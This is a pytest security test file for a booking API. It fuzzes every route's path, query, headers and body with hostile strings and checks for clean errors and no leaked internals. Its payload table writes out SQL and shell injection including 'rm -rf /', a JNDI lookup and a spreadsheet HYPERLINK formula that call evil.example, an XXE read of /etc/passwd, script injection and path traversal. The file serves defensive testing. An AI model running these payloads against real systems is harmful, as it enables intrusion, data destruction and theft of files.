"""Hostile input in every place of every route: no fault, nothing of it in a header or of the inside, nothing lost.

`test_http_hostile.py` looks closely at single tricks; here the routes are the app's own, so a new one is attacked too.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import httpx
import pytest

import app as entry
from chalicelib.domain.spellings import agent_id as agent_spelling
from tests.integration.api import PROPERTY, Api, serve
from tests.integration.audit import everything, slot_audit
from tests.integration.intake import mailbox
from tools.project import ROOT

if TYPE_CHECKING:
    from tests.integration.conftest import FreshTable

MARK = "qqmarkqq"
"""Is in every text that is sent, and so is found wherever it comes back."""

TEXTS = {
    "sql": f"'; DROP TABLE visits; -- {MARK}",
    "expression": f"attribute_exists(pk) OR :a = :a {MARK}",
    "key of the table": f"{MARK}#V#K#:signing",
    "shell": f"$(id) `id` {MARK}; rm -rf /",
    "template": "{{7*7}} ${7*7} #{7*7} %(x)s {0.__class__} " + MARK,
    "script": f"<script>alert('{MARK}')</script>",
    "jndi": "${jndi:ldap://evil.example/" + MARK + "}",
    "xml": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;{MARK}</x>',
    "header": f"{MARK}\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    "null": f"{MARK}\x00",
    "escape": f"\x1b[2J{MARK}\x07",
    "right to left": f"\u202e{MARK}\u2066\u200f",
    "invisible": f"\u200b\ufeff{MARK}\u2060",
    "emoji": f"👩‍👩‍👧‍👦🏳️‍🌈 {MARK}",
    "combining": "Z" + "\u0351" * 60 + MARK,
    "formula": f'=HYPERLINK("http://evil.example/{MARK}")',
    "formula too": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    "path": f"../../../../etc/passwd {MARK}",
    "number": "9" * 400 + MARK,
    "long": MARK + "A" * 20_000,
}

RAW_BODIES = {
    "nothing": b"",
    "null": b"null",
    "text": b'"qqmarkqq"',
    "array": b"[]",
    "NaN": b'{"qqmarkqq": NaN}',
    "twice": b'{"status": "qqmarkqq", "status": "cancelled"}',
    "deep": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    "lone surrogate": b'{"place": "\\ud800 qqmarkqq"}',
    "not UTF-8": b'{"place": "\xff qqmarkqq"}',
    "UTF-16": '{"place": "qqmarkqq"}'.encode("utf-16"),
    "huge number": b'{"durationMinutes": 1e999999999}',
    "long number": b'{"durationMinutes": ' + b"9" * 10_000 + b"}",
    "prototype": b'{"__proto__": {"admin": true}, "constructor": "qqmarkqq"}',
    "1 MB text": b'{"place": "' + b"x" * 1_000_000 + b'"}',
}

VALUES: dict[str, object] = {
    "huge": 10**400,
    "negative": -1,
    "fraction": 1.5,
    "true": True,
    "null": None,
    "array": [MARK],
    "object": {"$ne": MARK},
    "empty": "",
}

HEADERS = {
    "If-Match": ['"999999999999999999999"', f'"{MARK}"', "*, *", '"', "W/*", '"1' + "0" * 3000 + '"'],
    "If-None-Match": [f'W/"{MARK}"', '"""', "," * 500],
    "Idempotency-Key": [MARK * 32, f"../{MARK}", f"{MARK}#I", f"{MARK}; DROP"],
    "Prefer": [f"respond-async; {MARK}", f"{MARK}=1", "respond-async=" + "x" * 2000],
    "Accept": [f"{MARK}/*;q=NaN", "*/*;q=" + "9" * 500, ", ".join(["text/csv"] * 300)],
    "Content-Type": [f"application/json; charset={MARK}", f"multipart/form-data; boundary={MARK}", MARK],
    "Authorization": [f"Bearer {MARK}", f"Basic {MARK}", f"Bearer pv_{MARK}", "Bearer " + "A" * 4000],
}

OF_NO_CONCERN = {
    "X-Forwarded-Host": f"{MARK}.example",
    "Host": f"{MARK}.example",
    "X-HTTP-Method-Override": "DELETE",
    "Accept-Encoding": MARK,
    "Origin": f"https://{MARK}.example",
}
"""Headers that no route refuses: sent together, none hides another."""

PATHS = json.loads((ROOT / "docs" / "openapi.json").read_text(encoding="utf-8"))["paths"]
VARIABLE = re.compile(r"\{\w+\}")

INSIDE = re.compile(
    r"Traceback|botocore|boto3|chalicelib|site-packages|DynamoDB|ConditionExpression|arn:aws|File \"|K#:|0x[0-9a-f]{8}"
)

BODIES: dict[tuple[str, str], dict[str, Any]] = {
    ("POST", "/properties"): dict(PROPERTY),
    ("PUT", "/properties/{property_id}"): dict(PROPERTY),
    ("PUT", "/properties/{property_id}/availability"): {
        "weekly": {"mon": [["00:00", "24:00"]]},
        "dates": [{"from": "2030-01-01", "to": "2030-01-02", "open": [["09:00", "10:00"]]}],
        "stepMinutes": 15, "noticeMinutes": 0, "horizonDays": 1830, "gapMinutes": 0,
    },
    ("POST", "/visits"): {
        "propertyId": "hostile", "date": "2027-05-01T10:00:00Z", "durationMinutes": 30, "place": "Door", "agentId": "a",
        "status": "confirmed", "notes": "n", "visitor": {"name": "Ada", "email": "a@example.com", "phone": "+1"},
    },
    ("PATCH", "/visits/{visit_id}"): {
        "date": "2027-05-02T10:00:00Z", "durationMinutes": 30, "place": "Door", "agentId": "a", "notes": "n",
        "visitor": {"name": "Ada", "email": "a@example.com", "phone": "+1"},
    },
    ("PUT", "/visits/{visit_id}/status"): {"status": "cancelled", "reason": "r"},
    ("PUT", "/agents/{agent_id}"): {
        "name": "Grace", "email": "g@example.com", "phone": "+1", "language": "en", "timeZone": "Europe/Berlin",
        "availability": {"weekly": {"mon": [["09:00", "12:00"]]}, "dates": []}, "travelMinutes": 15,
    },
    ("PUT", "/agents/{agent_id}/calendar-token"): {"visitors": False},
    ("POST", "/visitors/search"): {"email": "nobody@example.com", "limit": 5},
    ("POST", "/visitors/erase"): {"phone": "+49 30 5550000"},
    ("POST", "/intakes"): {"visits": [{"propertyId": "hostile", "date": "2027-05-03T10:00:00Z"}]},
}  # fmt: skip

ROUTES = sorted(route for route in entry.required if route[0] != "HEAD")
BODIED = [route for route in ROUTES if route[0] in ("POST", "PUT", "PATCH")]


@pytest.fixture(scope="module")
def api(table: FreshTable) -> Iterator[Api]:
    with mailbox(table) as box, serve(box.table) as api:
        api.property("hostile")
        yield api


@pytest.fixture(scope="module", autouse=True)
def bystander(api: Api) -> Iterator[dict[str, Any]]:
    """A visit that nobody attacks by its id."""
    api.property("bystander")
    visit = api.visit("bystander", "2027-04-01T10:00:00Z", visitor={"name": "Ada"})
    yield visit
    assert api.get(f"/visits/{visit['id']}").json() == visit, "what others sent has changed a visit of nobody's concern"


@pytest.fixture(scope="module", autouse=True)
def _nothing_is_lost(api: Api, table: FreshTable) -> Iterator[None]:
    yield
    assert slot_audit(list(everything(table))) == []


@pytest.fixture
def victim(api: Api, path: str) -> str:
    """A visit to be attacked, where the path names one."""
    if "{visit_id}" not in path:
        return "none"
    return str(api.visit(api.property(f"victim-{next(_victims)}"), "2027-05-01T10:00:00Z")["id"])


_victims = iter(range(10_000))


def filled(path: str, visit: str, text: str | None = None) -> str:
    """The address of a route: of things that are there, or with a text in place of every id."""
    known = {
        "{property_id}": "hostile",
        "{agent_id}": "hostile agent",
        "{visit_id}": visit,
        "{intake_id}": "018f0000-0000-7000-8000-000000000000",
    }
    for name, id in known.items():
        path = path.replace(name, quote(text, safe="") if text is not None else id)
    return path


def send(
    api: Api, method: str, url: str, headers: Mapping[str, str] | None = None, body: object = None
) -> httpx.Response:
    """Sends, and looks at what comes back as at everything here."""
    given: dict[str, str] = {"If-Match": "*"} if method in ("PATCH", "PUT") and not headers else {}
    content = body if isinstance(body, bytes) else json.dumps(body).encode() if body is not None else None
    if content is not None:
        given["Content-Type"] = "application/json"
    # httpx would send a header of another case beside ours.
    request = api.http.build_request(method, url, headers={**given, **(headers or {})}, content=content)
    answer = api.http.send(request)
    what = f"{method} {url[:200]} {headers} {str(content)[:200]} -> {answer.status_code} {answer.text[:500]}"
    assert answer.status_code < 500, what
    assert "set-cookie" not in answer.headers, what
    if request.url.path.endswith("/visits") and "Link" in answer.headers:
        return answer  # the address of the next page says what was asked for
    assert MARK not in str(dict(answer.headers)), what
    assert not INSIDE.search(answer.text.replace(json.dumps(TEXTS["key of the table"])[1:-1], "")), what
    if answer.status_code >= 400:
        assert answer.headers["Content-Type"] == "application/problem+json", what
        assert answer.json()["status"] == answer.status_code, what
    return answer


@pytest.mark.parametrize(("method", "path"), [route for route in ROUTES if "{" in route[1]])
def test_in_the_path(api: Api, victim: str, method: str, path: str) -> None:
    for name, text in TEXTS.items():
        if name != "long":
            answer = send(api, method, filled(path, victim, text[:1000]), body=BODIES.get((method, path)))
            # Any line of text may be an agent, who may have no visits, and whom nobody replaces by mistake.
            harmless = (200, 428) if "{agent_id}" in path else ()
            assert answer.status_code in (400, 401, 404, 412, 415, 422, *harmless), (name, answer.text)


def queries(method: str, path: str) -> list[str]:
    """The parameters that a route takes by its contract."""
    shape = VARIABLE.sub("{}", path)
    (told,) = [methods for known, methods in PATHS.items() if VARIABLE.sub("{}", known) == shape]
    return [each["name"] for each in told[method.lower()].get("parameters", []) if each["in"] == "query"]


@pytest.mark.parametrize(("method", "path"), [r for r in ROUTES if r[1] not in ("/health", "/openapi.json")])
def test_in_the_query(api: Api, victim: str, method: str, path: str) -> None:
    # What is in a parameter that a route does not know is not looked at.
    pairs = [(name, text) for name in queries(method, path) for text in TEXTS.values()] + [(MARK, TEXTS["script"])]
    for name, text in pairs:
        url = f"{filled(path, victim)}?{quote(name)}={quote(text[:2000], safe='')}"
        send(api, method, url, body=b"[]" if (method, path) in BODIES else None)


@pytest.mark.parametrize(("method", "path"), ROUTES)
def test_in_a_header(api: Api, victim: str, method: str, path: str) -> None:
    each = [{name: value} for name, values in HEADERS.items() for value in values]
    for headers in [*each, OF_NO_CONCERN]:
        send(api, method, filled(path, victim), headers, b"[]" if (method, path) in BODIES else None)


@pytest.mark.parametrize(("method", "path"), BODIED)
def test_as_the_body(api: Api, victim: str, method: str, path: str) -> None:
    for raw in RAW_BODIES.values():
        answer = send(api, method, filled(path, victim), body=raw)
        if (method, path) in BODIES:
            assert answer.status_code in (400, 413, 415, 422), answer.text


def places(body: object, at: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Where in a body something can be put instead."""
    if isinstance(body, dict):
        for name, value in body.items():
            yield (*at, name)
            yield from places(value, (*at, name))
    if isinstance(body, list):
        for number, value in enumerate(body):
            yield (*at, number)
            yield from places(value, (*at, number))


def with_(body: Any, place: tuple[str | int, ...], value: object) -> Any:
    changed = json.loads(json.dumps(body))
    inner = changed
    for step in place[:-1]:
        inner = inner[step]
    inner[place[-1]] = value
    return changed


@pytest.mark.parametrize(("method", "path"), sorted(BODIES))
def test_in_every_field_of_the_body(api: Api, victim: str, method: str, path: str) -> None:
    body = BODIES[method, path]
    for place in [*places(body), ("qqmarkqq",), ("__proto__",)]:
        for value in [*TEXTS.values(), *VALUES.values()]:
            answer = send(api, method, filled(path, victim), body=with_(body, place, value))
            if answer.status_code == 201 and path == "/visits":
                kept = api.get(answer.headers["Location"]).json()
                if isinstance(value, str) and len(place) == 1:
                    # An agent's id in the spelling that looks the same.
                    plain = agent_spelling(value) if place[0] == "agentId" else value
                    assert kept[str(place[0])] == plain, "accepted is kept, letter by letter"
                # Its slot is for the next attack.
                send(api, "PUT", f"{answer.headers['Location']}/status", body={"status": "cancelled"})


def test_a_tampered_cursor_is_refused_wherever_it_is_touched(api: Api) -> None:
    for hour in (10, 11):
        api.visit("hostile", f"2027-06-01T{hour}:00:00Z")
    window = "propertyId=hostile&from=2027-06-01T00:00:00Z&to=2027-06-02T00:00:00Z&limit=1"
    cursor = api.http.get(f"/visits?{window}").json()["nextCursor"]
    assert cursor
    for at in range(0, len(cursor), 3):
        touched = cursor[:at] + ("A" if cursor[at] != "A" else "B") + cursor[at + 1 :]
        assert api.http.get(f"/visits?{window}&cursor={quote(touched)}").status_code == 400
    for other in ("/properties?", "/visits?propertyId=bystander&"):
        assert api.http.get(f"{other}cursor={quote(cursor)}").status_code == 400


def test_cells_that_look_like_formulas_are_text_in_what_spreadsheets_open(api: Api) -> None:
    for hour, text in enumerate(("=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0"), start=9):
        api.visit("hostile", f"2027-07-01T{hour:02}:00:00Z", place=text, notes=text, visitor={"name": text})
    window = "from=2027-07-01T00:00:00Z&to=2027-07-02T00:00:00Z"
    exported = api.http.get(f"/visits/export?format=csv&{window}")
    assert exported.status_code == 200
    assert exported.text.count("cmd|") >= 3
    assert not re.search(r"(^|[,\n])\"?[=+@-]", exported.text), exported.text


def test_a_replayed_key_with_another_body_does_nothing(api: Api) -> None:
    first = {"propertyId": "hostile", "date": "2027-08-01T10:00:00Z"}
    visit = api.post("/visits", first, key="replayed").json()
    for body in (first | {"date": "2027-08-01T12:00:00Z"}, first | {"place": MARK}):
        assert api.post("/visits", body, key="replayed").status_code == 422
    assert api.get(f"/visits/{visit['id']}").json() == visit
